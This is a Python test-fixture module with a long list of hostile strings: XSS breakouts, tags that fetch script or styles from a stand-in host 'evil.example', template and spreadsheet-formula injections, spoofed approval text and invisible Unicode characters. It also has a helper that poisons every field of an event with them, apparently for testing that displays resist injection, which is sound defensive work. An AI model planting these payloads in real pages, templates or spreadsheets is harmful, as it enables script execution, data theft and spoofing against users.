"""Text that attacks whoever shows it: breakouts, and characters that hide or reorder."""

from collections.abc import Mapping

from counterseal.core.canonical import Json

BREAKOUTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><h1>APPROVED</h1><pre>",
    "</span></p></li></ol><h2>Verified</h2>",
    "</details><b>shown</b>",
    "</summary></details>",
    "</td></tr></table><table><tr><td>",
    "</main></body></html>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input type=submit>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='https://evil.example'>our page</a>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=background:url(//evil.example)>",
    "<table background=//evil.example>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?xml version='1.0'?><?php evil ?>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onmouseover=alert(1)",
    " onmouseover=alert(1) ",
    'x" style="position:fixed;inset:0',
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "https://evil.example/?steal",
    "//evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&nbsp;&zwj;&rlm;",
    "&notanentity",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "%3Cscript%3E",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "{}{0}{0.__class__}%s%n",
    "{ours}{theirs!r:>99}",
    "expression(alert(1))",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "⟦U+202E⟧",
    '│ "to": "friend"',
    "sealed (sha256:" + "0" * 64 + ")",
    '<span class="theirs">ours</span>',
    "\n\n\nAPPROVED by ada\n\n\n",
    "\r\nVerdict: ALLOW\r\n",
    "first\rsecond",
    "tab\tstop",
    "x" * 5000,
    "<b>" * 1000,
    "&" * 1000,
    "z" + "\u0300" * 40,
    "\u0300start",
    "<\u0338script>",
    "p\u0430ypal.example",
    "\u03bf\u039f0O",
    "",
    " ",
    "null",
    "undefined",
    "-->",
    "]]>",
)
"""What would take over a page, a template or a reader that obeys what it is shown."""

_HIDING = (
    *range(0x20),
    *range(0x7F, 0xA1),
    *(0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x1680),
    *range(0x2000, 0x2010),
    *range(0x2028, 0x2030),
    *(0x205F, *range(0x2060, 0x2070), 0x2800, 0x3000, 0x3164, 0xFEFF, 0xFFA0),
    *(0xFE00, 0xFE0F, 0xFFF9, 0xFFFA, 0xFFFB, 0xE000, 0xFFFE, 0xFFFF),
    *(0xE0001, 0xE0020, 0xE0041, 0xE007F, 0xE0100, 0xE01EF, 0xF0000, 0x10FFFF),
    *(0xD800, 0xDFFF, 0x1D173),
)

HIDING = tuple(f"ab{chr(code)}cd" for code in _HIDING if code not in {0x0A, 0x20})
"""Text with something in it that prints as nothing, as a space, or moves what stands near it."""

HOSTILE = (*BREAKOUTS, *HIDING)


def poisoned(value: Json, hostile: str) -> Json:
    """Write ``hostile`` into every text of an event, and beside every key, but kinds and times."""
    match value:
        case str():
            return hostile
        case Mapping():
            kept = {name: value[name] for name in ("kind", "at") if name in value}
            rest = {name: poisoned(each, hostile) for name, each in value.items()}
            return {**rest, f"{hostile}!": hostile, **kept}
        case list() | tuple():
            return [poisoned(each, hostile) for each in value] or [hostile]
        case None:
            return hostile
        case _:
            return value
